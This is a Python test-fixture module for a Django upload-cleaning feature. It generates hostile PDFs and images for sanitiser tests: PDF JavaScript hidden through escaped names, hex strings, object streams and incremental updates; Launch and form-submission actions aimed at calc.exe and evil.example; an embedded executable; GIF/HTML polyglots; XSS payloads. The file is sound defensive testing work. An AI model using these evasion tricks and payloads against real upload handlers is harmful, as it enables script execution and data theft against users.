"""Files for the upload tests, made in code: real images and PDFs, and the hostile ones an attacker would try.

The hostile PDFs (`HOSTILE_PDFS`) each hide something that acts or carries a file, written the ways that slip
past a byte scan (#-escaped names, hex strings, compressed object streams, an incremental update); the
images with metadata (`IMAGES_WITH_METADATA`) carry EXIF with GPS, XMP, IPTC, comments and text chunks.
core/filecleaning.py must leave none of it; `PDF_PAYLOADS` and `IMAGE_PAYLOADS` are the bytes to look for.
"""

from __future__ import annotations

import functools
import io
import re
import struct
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

CONTENT_TYPES = {"JPEG": "image/jpeg", "PNG": "image/png", "GIF": "image/gif", "WEBP": "image/webp"}


def image_bytes(fmt: str = "PNG", size=(64, 48), mode: str = "RGB", **save_options) -> bytes:
    image = Image.new(mode, size, (30, 90, 160) if mode == "RGB" else 1)
    for x in range(0, size[0], 7):  # some detail, so that formats compress it like a picture
        image.putpixel((x, x % size[1]), (200, 40, 40) if mode == "RGB" else 0)
    buffer = io.BytesIO()
    image.save(buffer, fmt, **save_options)
    return buffer.getvalue()


def upload(name: str, data: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)


def image_upload(name: str = "photo.png", fmt: str = "PNG", **kwargs) -> SimpleUploadedFile:
    return upload(name, image_bytes(fmt, **kwargs), CONTENT_TYPES.get(fmt, "application/octet-stream"))


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims width × height pixels: a decompression bomb as the decoder sees it."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00" + b"\x00\x00\x00" * 4, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", pixels)
        + _png_chunk(b"IEND", b"")
    )


def png_with_text(keyword: bytes, text: bytes) -> bytes:
    """A valid PNG with a tEXt chunk (where a polyglot hides its markup)."""
    data = image_bytes("PNG")
    iend = data.rindex(b"IEND") - 4
    return data[:iend] + _png_chunk(b"tEXt", keyword + b"\x00" + text) + data[iend:]


def gif_html_polyglot() -> bytes:
    """A GIF that decodes fine and is also an HTML page: markup after the GIF trailer."""
    return image_bytes("GIF") + b"<html><body><script>alert(document.domain)</script></body></html>"


def gif_script_polyglot() -> bytes:
    """A GIF that is also JavaScript: width bytes "/*" open a comment that the trailer's payload closes."""
    image = Image.new("P", (0x2A2F, 1))  # little-endian 0x2a2f is "/*"
    buffer = io.BytesIO()
    image.save(buffer, "GIF")
    data = buffer.getvalue()
    assert data[6:8] == b"/*"
    return data + b"*/=alert(document.cookie)//"


def jpeg_with_comment(comment: bytes) -> bytes:
    data = image_bytes("JPEG")
    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return data[:2] + segment + data[2:]


def truncated(data: bytes, keep: float = 0.6) -> bytes:
    return data[: int(len(data) * keep)]


SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.cookie)</script><rect width='10' height='10'/></svg>"
)
HTML_PAGE = b"<!doctype html><html><body><script>alert(document.domain)</script></body></html>"


def pdf_bytes(pages: int = 1) -> bytes:
    import pypdfium2 as pdfium

    document = pdfium.PdfDocument.new()
    for _ in range(pages):
        document.new_page(595, 842)
    buffer = io.BytesIO()
    document.save(buffer)
    document.close()
    return buffer.getvalue()


def handmade_pdf(
    catalog_extra: bytes = b"", extra_objects: tuple[bytes, ...] = (), page_extra: bytes = b""
) -> bytes:
    """A one-page PDF written object by object, with a correct cross-reference table.

    Objects 1-3 are the catalog, the page tree and the page; `extra_objects` become objects 4, 5, …
    """
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page_extra + b" >>",
        *extra_objects,
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n" % (len(objects) + 1))
    out.write(b"0000000000 65535 f \n")
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def pdf_with_open_action_script() -> bytes:
    return handmade_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")


def pdf_with_escaped_names_script() -> bytes:
    """Document-level JavaScript whose names are written with #-escapes (/Java#53cript), which a byte scan misses."""
    return handmade_pdf(
        b"/Names << /Java#53cript 4 0 R >>",
        (
            b"<< /Names [(boot) 5 0 R] >>",
            b"<< /S /Java#53cript /J#53 (app.alert\\(1\\)) >>",
        ),
    )


# ----- PDFs that act or carry files, for core/filecleaning.rewrite_pdf -----

# What must not survive a rewrite, in any form (the hex string is "app.alert(1)" as written in a hex string).
PDF_PAYLOADS = (
    b"app.alert",
    b"6170702e616c657274",
    b"calc.exe",
    b"evil.example",
    b"EMBEDDED-PAYLOAD",
    b"FORM-VALUE",
    b"OLD-REVISION",
)
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def pdf_with_issue_open_action() -> bytes:
    """The issue's example: an opening action whose names are #-escaped (/Java#53cript, /J#53)."""
    return handmade_pdf(b"/OpenAction << /S /Java#53cript /J#53 (app.alert\\(1\\)) >>")


def pdf_with_escaped_names_everywhere() -> bytes:
    """/Open#41ction, /Java#53cript and /#4aS: the opening action's every name escaped."""
    return handmade_pdf(b"/Open#41ction << /S /Java#53cript /#4aS (app.alert\\(1\\)) >>")


def pdf_with_hex_string_script() -> bytes:
    return handmade_pdf(b"/OpenAction << /S /JavaScript /JS <6170702E616C657274283129> >>")


def pdf_with_script_in_object_stream() -> bytes:
    """PDF 1.5: the catalog, its opening action and a page action stored in a compressed object stream."""
    import pikepdf

    pdf = pikepdf.Pdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    pdf.Root.OpenAction = pdf.make_indirect(script)
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=pdf.make_indirect(script.copy()))
    buffer = io.BytesIO()
    pdf.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    data = buffer.getvalue()
    assert b"JavaScript" not in data and b"app.alert" not in data  # only inside compressed streams
    return data


def append_revision(data: bytes, objects: dict[int, bytes]) -> bytes:
    """`data` with an incremental update appended after its %%EOF: `objects` (by number) replace or add objects."""
    previous = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    size = max(int(re.findall(rb"/Size (\d+)", data)[-1]), max(objects) + 1)
    out = io.BytesIO(data)
    out.seek(0, io.SEEK_END)
    offsets = {}
    for number, body in sorted(objects.items()):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n")
    for number, offset in offsets.items():
        out.write(b"%d 1\n%010d 00000 n \n" % (number, offset))
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, previous, xref)
    )
    return out.getvalue()


def pdf_with_update_adding_open_action() -> bytes:
    """A clean PDF, then an update appended after its %%EOF that gives the catalog an opening script."""
    return append_revision(
        handmade_pdf(), {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + SCRIPT + b" >>"}
    )


def pdf_with_update_removing_script() -> bytes:
    """A PDF whose first revision has a script, removed by an update: the old bytes must not be kept."""
    first = handmade_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\('OLD-REVISION'\\)) >>")
    return append_revision(first, {1: b"<< /Type /Catalog /Pages 2 0 R >>"})


def pdf_with_page_actions() -> bytes:
    """Additional actions (/AA) on a page: a script when it opens, a web address when it closes."""
    return handmade_pdf(
        page_extra=b"/AA << /O " + SCRIPT + b" /C << /S /URI /URI (https://evil.example/closed) >> >>"
    )


def _link(action: bytes, rect: bytes = b"[50 50 150 80]") -> bytes:
    return b"<< /Type /Annot /Subtype /Link /Rect " + rect + b" /Border [0 0 0] /A " + action + b" >>"


def pdf_with_links() -> bytes:
    """Links: to a web address, one launching a program, and one to a place on the page (which is kept)."""
    return handmade_pdf(
        page_extra=b"/Annots [4 0 R 5 0 R 6 0 R]",
        extra_objects=(
            _link(b"<< /S /URI /URI (https://evil.example/phish) >>"),
            _link(b"<< /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> >>", b"[50 100 150 130]"),
            _link(b"<< /S /GoTo /D [3 0 R /XYZ 0 842 0] /Next " + SCRIPT + b" >>", b"[50 150 150 180]"),
        ),
    )


# Every other kind of action, as a link's action (a link that leads nowhere in the document is removed).
OTHER_ACTIONS = {
    "SubmitForm": b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>",
    "ImportData": b"<< /S /ImportData /F (calc.exe) >>",
    "GoToR": b"<< /S /GoToR /F (calc.exe) /D [0 /Fit] >>",
    "GoToE": b"<< /S /GoToE /T << /R /C /N (calc.exe) >> /D [0 /Fit] >>",
    "RichMediaExecute": b"<< /S /RichMediaExecute /TA 5 0 R /CMD << /C (evil.example) >> >>",
    "Sound": b"<< /S /Sound /Sound << /Type /Sound /R 8000 /F (calc.exe) >> >>",
    "Movie": b"<< /S /Movie /T (calc.exe) >>",
    "Named": b"<< /S /Named /N /Print /Next " + SCRIPT + b" >>",
}


def pdf_with_link_action(action: bytes) -> bytes:
    return handmade_pdf(page_extra=b"/Annots [4 0 R]", extra_objects=(_link(action),))


def pdf_with_embedded_file() -> bytes:
    """A file in the /EmbeddedFiles name tree, and the same file as a paper-clip annotation on the page."""
    import pikepdf

    pdf = pikepdf.open(io.BytesIO(handmade_pdf()))
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ EMBEDDED-PAYLOAD", filename="invoice.exe")
    pdf.attachments["invoice.exe"] = spec
    clip = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.FileAttachment,
        Rect=[300, 300, 320, 320],
        FS=spec.obj,
        Contents=pikepdf.String("invoice"),
    )
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(clip)]))
    buffer = io.BytesIO()
    pdf.save(buffer)
    return buffer.getvalue()


def pdf_with_form(xfa: bool = False) -> bytes:
    """An AcroForm with one text field whose widget is on the page and submits its value to a web address."""
    catalog = (
        b"/AcroForm << /Fields [4 0 R] /NeedAppearances true" + (b" /XFA 5 0 R" if xfa else b"") + b" >>"
    )
    widget = (
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (email) /V (FORM-VALUE) /Rect [100 700 300 720]"
        b" /P 3 0 R /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >> >>"
    )
    xml = b"<xdp:xdp>FORM-VALUE</xdp:xdp>"
    xfa_stream = b"<< /Length %d >>\nstream\n" % len(xml) + xml + b"\nendstream"
    return handmade_pdf(catalog, (widget, *((xfa_stream,) if xfa else ())), page_extra=b"/Annots [4 0 R]")


def pdf_with_outline_script() -> bytes:
    """A bookmark that runs a script instead of going to a page."""
    return handmade_pdf(
        b"/Outlines 4 0 R",
        (
            b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
            b"<< /Title (Front page) /Parent 4 0 R /A " + SCRIPT + b" >>",
        ),
    )


def pdf_with_rich_media_annotations() -> bytes:
    """Annotations that play or run something: screen, sound, movie, rich media, 3D."""
    kinds = (b"Screen", b"Sound", b"Movie", b"RichMedia", b"3D")
    annotations = tuple(
        b"<< /Type /Annot /Subtype /" + kind + b" /Rect [10 10 40 40] /AA << /PO " + SCRIPT + b" >> >>"
        for kind in kinds
    )
    references = b" ".join(b"%d 0 R" % (4 + i) for i in range(len(kinds)))
    return handmade_pdf(page_extra=b"/Annots [" + references + b"]", extra_objects=annotations)


def pdf_with_widget_in_structure_tree() -> bytes:
    """A tagged PDF whose structure tree still points at the form's widget once the page no longer does."""
    tree = b"/StructTreeRoot << /Type /StructTreeRoot /K << /S /Form /P 1 0 R /K << /Type /OBJR /Obj 4 0 R >> >> >>"
    catalog = tree + b" /AcroForm << /Fields [4 0 R] >>"
    widget = (
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (email) /V (FORM-VALUE) /Rect [100 700 300 720]"
        b" /AA << /K " + SCRIPT + b" >> >>"
    )
    return handmade_pdf(catalog, (widget,), page_extra=b"/Annots [4 0 R]")


HOSTILE_PDFS = {
    "issue's escaped open action": pdf_with_issue_open_action,
    "escaped names everywhere": pdf_with_escaped_names_everywhere,
    "hex-string script": pdf_with_hex_string_script,
    "script in object stream": pdf_with_script_in_object_stream,
    "update adding an open action": pdf_with_update_adding_open_action,
    "update removing a script": pdf_with_update_removing_script,
    "page additional actions": pdf_with_page_actions,
    "uri, launch and goto links": pdf_with_links,
    "embedded file": pdf_with_embedded_file,
    "form with widget": pdf_with_form,
    "xfa form": lambda: pdf_with_form(xfa=True),
    "widget in the structure tree": pdf_with_widget_in_structure_tree,
    "document-level script (escaped)": pdf_with_escaped_names_script,
    "bookmark script": pdf_with_outline_script,
    "rich media annotations": pdf_with_rich_media_annotations,
    **{
        f"{name} link": (lambda action=action: pdf_with_link_action(action))
        for name, action in OTHER_ACTIONS.items()
    },
}


def pdf_locked_with_password() -> bytes:
    import pikepdf

    with pikepdf.open(io.BytesIO(pdf_bytes())) as pdf:
        buffer = io.BytesIO()
        pdf.save(buffer, encryption=pikepdf.Encryption(owner="owner", user="secret"))
    return buffer.getvalue()


def printed_page_pdf() -> bytes:
    """A clean two-page PDF with drawn content (a coloured box and a line of text), pages of different sizes."""
    import pikepdf

    pdf = pikepdf.Pdf.new()
    font = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
        )
    )
    for size in ((595, 842), (842, 1191)):
        page = pdf.add_blank_page(page_size=size)
        page.obj.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
        drawing = b"0.64 0.09 0.1 rg 50 600 300 150 re f BT /F1 28 Tf 60 560 Td (Qinglan Science Daily) Tj ET"
        page.obj.Contents = pdf.make_stream(drawing)
    buffer = io.BytesIO()
    pdf.save(buffer)
    return buffer.getvalue()


# ----- images with metadata, for core/filecleaning.strip_image -----

# What must not survive stripping: GPS text and coordinates, XMP, IPTC, comments and text chunks.
IMAGE_PAYLOADS = (
    b"GPS-PAYLOAD",
    b"XMP-PAYLOAD",
    b"IPTC-PAYLOAD",
    b"COMMENT-PAYLOAD",
    b"TEXT-PAYLOAD",
    b"<script",
)


@functools.cache  # a profile records when it was made: the same bytes all along
def icc_profile() -> bytes:
    from PIL import ImageCms

    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def two_colour_picture(size=(64, 48), mode: str = "RGB") -> Image.Image:
    """Left half red, right half blue: after a turn, where the colours are says which way it went."""
    image = Image.new(mode, size, (200, 30, 30) if mode == "RGB" else (200, 30, 30, 255))
    image.paste((30, 30, 200) if mode == "RGB" else (30, 30, 200, 255), (size[0] // 2, 0, size[0], size[1]))
    return image


def exif_with_gps(orientation: int = 1) -> Image.Exif:
    from PIL import ExifTags

    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.ImageDescription] = "GPS-PAYLOAD: the reporter's home"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps.update({1: "N", 2: (31.0, 14.0, 5.5), 3: "E", 4: (121.0, 28.0, 3.0), 27: "GPS-PAYLOAD"})
    return exif


XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><rdf:Description>XMP-PAYLOAD</rdf:Description></rdf:RDF></x:xmpmeta>'


def _jpeg_segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def jpeg_with_metadata(orientation: int = 6) -> bytes:
    """A JPEG photo with EXIF (GPS, the given orientation), XMP, an ICC profile, IPTC (APP13) and a comment."""
    buffer = io.BytesIO()
    two_colour_picture().save(
        buffer, "JPEG", quality=92, exif=exif_with_gps(orientation), xmp=XMP, icc_profile=icc_profile()
    )
    data = buffer.getvalue()
    caption = b"\x1c\x02\x78" + struct.pack(">H", 12) + b"IPTC-PAYLOAD"  # IPTC record 2, dataset 120
    iptc = b"Photoshop 3.0\x008BIM\x04\x04\x00\x00" + struct.pack(">I", len(caption)) + caption + b"\x00"
    extra = _jpeg_segment(0xED, iptc) + _jpeg_segment(0xFE, b"COMMENT-PAYLOAD")
    return data[:2] + extra + data[2:]


def png_with_metadata() -> bytes:
    """A PNG with tEXt, zTXt and iTXt chunks, EXIF with GPS (eXIf) and an ICC profile."""
    from PIL.PngImagePlugin import PngInfo

    text = PngInfo()
    text.add_text("Comment", "TEXT-PAYLOAD in tEXt")
    text.add_text("Description", "TEXT-PAYLOAD in zTXt " * 20, zip=True)
    text.add_itxt("XML:com.adobe.xmp", XMP.decode(), zip=False)
    buffer = io.BytesIO()
    two_colour_picture().save(buffer, "PNG", pnginfo=text, exif=exif_with_gps(), icc_profile=icc_profile())
    return buffer.getvalue()


def webp_with_metadata(lossless: bool = False) -> bytes:
    buffer = io.BytesIO()
    two_colour_picture(mode="RGBA").save(
        buffer, "WEBP", lossless=lossless, exif=exif_with_gps(), xmp=XMP, icc_profile=icc_profile()
    )
    return buffer.getvalue()


ANIMATION_COLOURS = ((200, 30, 30), (30, 160, 30), (30, 30, 200))
ANIMATION_DURATIONS = [100, 250, 400]


def animation_frames(transparent: bool = False) -> list[Image.Image]:
    """Three different frames; with `transparent`, each has a clear corner that moves."""
    frames = []
    for index, colour in enumerate(ANIMATION_COLOURS):
        frame = Image.new("RGBA", (40, 30), (*colour, 255))
        if transparent:
            frame.paste((0, 0, 0, 0), (index * 10, 0, index * 10 + 10, 10))
        frames.append(frame if transparent else frame.convert("RGB"))
    return frames


def animated_gif_with_comment(transparent: bool = False) -> bytes:
    frames = animation_frames(transparent)
    if not transparent:
        frames = [frame.convert("P") for frame in frames]
    buffer = io.BytesIO()
    frames[0].save(
        buffer,
        "GIF",
        save_all=True,
        append_images=frames[1:],
        duration=ANIMATION_DURATIONS,
        loop=0,
        disposal=2,
        comment=b"COMMENT-PAYLOAD <script>alert(1)</script>",
    )
    return buffer.getvalue()


def animated_webp_with_metadata() -> bytes:
    frames = animation_frames(transparent=True)
    buffer = io.BytesIO()
    frames[0].save(
        buffer,
        "WEBP",
        save_all=True,
        append_images=frames[1:],
        duration=ANIMATION_DURATIONS,
        loop=3,
        lossless=True,
        exif=exif_with_gps(),
        xmp=XMP,
    )
    return buffer.getvalue()


IMAGES_WITH_METADATA = {
    "jpeg with exif gps, xmp, iptc, comment": ("JPEG", jpeg_with_metadata),
    "jpeg with script comment": (
        "JPEG",
        lambda: jpeg_with_comment(b"<script>alert(document.cookie)</script>"),
    ),
    "png with text chunks and exif": ("PNG", png_with_metadata),
    "png with markup text chunk": (
        "PNG",
        lambda: png_with_text(b"Comment", b'<img src=x onerror="alert(1)">'),
    ),
    "lossy webp with exif and xmp": ("WEBP", webp_with_metadata),
    "lossless webp with exif and xmp": ("WEBP", lambda: webp_with_metadata(lossless=True)),
    "animated gif with comment": ("GIF", animated_gif_with_comment),
    "transparent animated gif with comment": ("GIF", lambda: animated_gif_with_comment(transparent=True)),
    "animated webp with exif and xmp": ("WEBP", animated_webp_with_metadata),
    "gif with html after it": ("GIF", gif_html_polyglot),
}


# ----- what is left in a file after cleaning -----

# PDF names that act, carry a file or make a form, as keys or values; the byte scan reads the expanded file.
ACTING_NAMES = {
    "/JavaScript",
    "/JS",
    "/Launch",
    "/URI",
    "/SubmitForm",
    "/ResetForm",
    "/ImportData",
    "/GoToR",
    "/GoToE",
    "/RichMedia",
    "/RichMediaExecute",
    "/Sound",
    "/Movie",
    "/Screen",
    "/3D",
    "/Named",
    "/OpenAction",
    "/AA",
    "/AcroForm",
    "/XFA",
    "/Widget",
    "/FileAttachment",
    "/EmbeddedFiles",
    "/EmbeddedFile",
    "/EF",
    "/AF",
    "/Next",
    "/A",
    "/FT",
}
ACTING_BYTES = re.compile(
    rb"/(?:"
    + b"|".join(re.escape(name[1:].encode()) for name in sorted(ACTING_NAMES))
    + rb")(?![A-Za-z0-9_.#-])"
)


def expanded_pdf(data: bytes) -> bytes:
    """The PDF written out by qpdf in QDF mode: no object streams, every stream decoded, one object per block."""
    import pikepdf

    with pikepdf.open(io.BytesIO(data)) as pdf:
        buffer = io.BytesIO()
        pdf.save(
            buffer,
            qdf=True,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
            stream_decode_level=pikepdf.StreamDecodeLevel.all,
        )
    return buffer.getvalue()


def _pdf_names(obj) -> set[str]:
    import pikepdf

    if isinstance(obj, pikepdf.Array):
        return {str(item) for item in obj if isinstance(item, pikepdf.Name)}
    return set(obj.keys()) | {str(value) for _key, value in obj.items() if isinstance(value, pikepdf.Name)}


def pdf_leftovers(data: bytes) -> set[str]:
    """Everything that acts or carries a file in the PDF `data`: found by parsing every object (reachable or
    not, stream data decoded), in the bytes qpdf expands it to, and (the payloads) in the bytes as they are."""
    import pikepdf

    from core.uploads import pdf_objects

    found = set()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        for obj in pdf_objects(pdf):
            found |= _pdf_names(obj) & ACTING_NAMES
            if isinstance(obj, pikepdf.Stream):
                found |= {payload.decode() for payload in PDF_PAYLOADS if payload in obj.read_bytes().lower()}
        names = pdf.Root.get("/Names")
        if names is not None and set(names.keys()) - {"/Dests"}:
            found.add("name trees other than /Dests")
    raw = expanded_pdf(data)
    found |= {match.decode() for match in ACTING_BYTES.findall(raw)}
    # The file as it is, too: an earlier revision is in its bytes, not in what qpdf reads.
    found |= {
        payload.decode() for payload in PDF_PAYLOADS if payload in raw.lower() or payload in data.lower()
    }
    return found


def jpeg_markers(data: bytes) -> list[int]:
    """The markers of a JPEG's segments up to its image data (start of scan)."""
    markers, position = [], 2
    while position + 4 <= len(data) and data[position] == 0xFF:
        marker = data[position + 1]
        markers.append(marker)
        if marker == 0xDA:
            break
        position += 2 + struct.unpack(">H", data[position + 2 : position + 4])[0]
    return markers


def png_chunks(data: bytes) -> list[bytes]:
    chunks, position = [], 8
    while position + 8 <= len(data):
        size = struct.unpack(">I", data[position : position + 4])[0]
        chunks.append(data[position + 4 : position + 8])
        position += 12 + size
    return chunks


def webp_chunks(data: bytes) -> list[bytes]:
    chunks, position = [], 12
    while position + 8 <= len(data):
        size = int.from_bytes(data[position + 4 : position + 8], "little")
        chunks.append(data[position : position + 4])
        position += 8 + size + (size & 1)
    return chunks


# What a stripped file may hold besides pixels: JFIF, the ICC profile and Adobe's colour marker; PNG's palette,
# transparency, colour profile, resolution and animation chunks; WebP's header, image, alpha, profile, animation.
JPEG_MARKERS_KEPT = {0xE0, 0xE2, 0xEE, 0xDB, 0xC4, 0xDD, 0xDA} | set(range(0xC0, 0xD0))
PNG_CHUNKS_KEPT = {b"IHDR", b"PLTE", b"tRNS", b"iCCP", b"pHYs", b"IDAT", b"IEND", b"acTL", b"fcTL", b"fdAT"}
WEBP_CHUNKS_KEPT = {b"VP8X", b"VP8 ", b"VP8L", b"ALPH", b"ICCP", b"ANIM", b"ANMF"}
METADATA_INFO = {"exif", "xmp", "comment", "XML:com.adobe.xmp", "photoshop", "extension"}


def metadata_left(data: bytes, image_format: str) -> list[str]:
    """What is wrong with a stripped image: another format, a payload, a metadata block; [] when all is well."""
    from PIL import ImageSequence

    problems = [
        payload.decode()
        for payload in (*IMAGE_PAYLOADS, b"onerror", b"<html")
        if payload.lower() in data.lower()
    ]
    with Image.open(io.BytesIO(data)) as image:
        if image.format != image_format:
            problems.append(f"format {image.format}")
        if image.getexif():
            problems.append("exif")
        for frame in ImageSequence.Iterator(image):
            found = METADATA_INFO & set(frame.info)
            if frame.info.get("extension", (b"",))[0].startswith(b"NETSCAPE2.0"):
                found.discard("extension")  # a GIF's looping block: the only application block allowed
            problems += sorted(found)
    if image_format == "JPEG":
        problems += [f"JPEG marker {m:#x}" for m in set(jpeg_markers(data)) - JPEG_MARKERS_KEPT]
        problems += [] if data.endswith(b"\xff\xd9") else ["bytes after the JPEG"]
    elif image_format == "PNG":
        problems += [f"PNG chunk {c.decode()}" for c in set(png_chunks(data)) - PNG_CHUNKS_KEPT]
    elif image_format == "WEBP":
        problems += [f"WebP chunk {c.decode()}" for c in set(webp_chunks(data)) - WEBP_CHUNKS_KEPT]
    elif not data.endswith(b";"):
        problems.append("bytes after the GIF")
    return problems
